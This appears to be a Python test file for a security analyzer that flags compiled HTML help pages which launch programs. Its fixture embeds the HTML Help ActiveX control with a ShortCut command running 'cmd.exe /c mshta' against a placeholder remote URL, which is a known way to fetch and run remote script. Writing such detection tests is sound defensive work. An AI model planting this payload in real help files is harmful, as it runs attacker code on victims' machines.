"""Pages of compiled help that start programs."""

from __future__ import annotations

from analyzers.attachments.help_page import UNIT
from analyzers.model.content import Link
from analyzers.model.observation import Severity
from tests.analyzers.attachments.observed import facts, findings, observe

PAGE = b"""<html><object id=x classid="clsid:52a2aaae-085d-4187-97ea-8c30db990436">
<param name="Command" value="ShortCut"><param name="Item1" value=",cmd.exe,/c mshta
http://a.test/b"></object></html>"""


def test_the_command_of_the_control_is_read() -> None:
    found = observe(UNIT, PAGE, "a.htm", "html")
    command = findings(found)["chm.command"]
    assert command.severity is Severity.CRITICAL
    assert command.title.startswith("Showing the page runs the command prompt and mshta")
    assert facts(found)["Would run"].startswith("cmd.exe /c mshta")
    assert [r.url for r in found if isinstance(r, Link)] == ["http://a.test/b"]


def test_other_controls_and_pages_are_quiet() -> None:
    assert not observe(UNIT, b"<html></html>", "a.htm", "html")
    assert not observe(UNIT, PAGE.replace(b"ShortCut", b"TOC"), "a.htm", "html")
